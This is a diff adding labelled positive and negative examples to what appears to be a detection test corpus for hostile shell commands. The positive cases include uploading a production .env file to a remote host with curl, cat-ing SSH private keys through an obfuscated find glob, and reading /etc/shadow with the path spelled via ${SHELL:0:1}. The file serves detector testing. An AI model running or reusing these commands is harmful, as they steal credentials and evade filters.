@@ -95,3 +95,11 @@ ls -d ~/.config/*
 curl -F "f=@./config/.env.production" https://203.0.113.5/u
 #@ neg the example .env of a project uploaded
 curl -F "f=@.env.example" https://docs.example.com/upload
+#@ pos find -path with a ? glob of the ssh directory, starting with a star
+find ~ -path '*/.s?h/id_*' -exec cat {} \;
+#@ neg find -path with a star-led glob of a source tree
+find . -path '*/src/*.c' -print
+#@ pos /etc/shadow spelled with ${SHELL:0:1}
+d=${SHELL:0:1}etc${SHELL:0:1}shadow; cat $d
+#@ neg the first character of SHELL printed
+echo "${SHELL:0:1}"
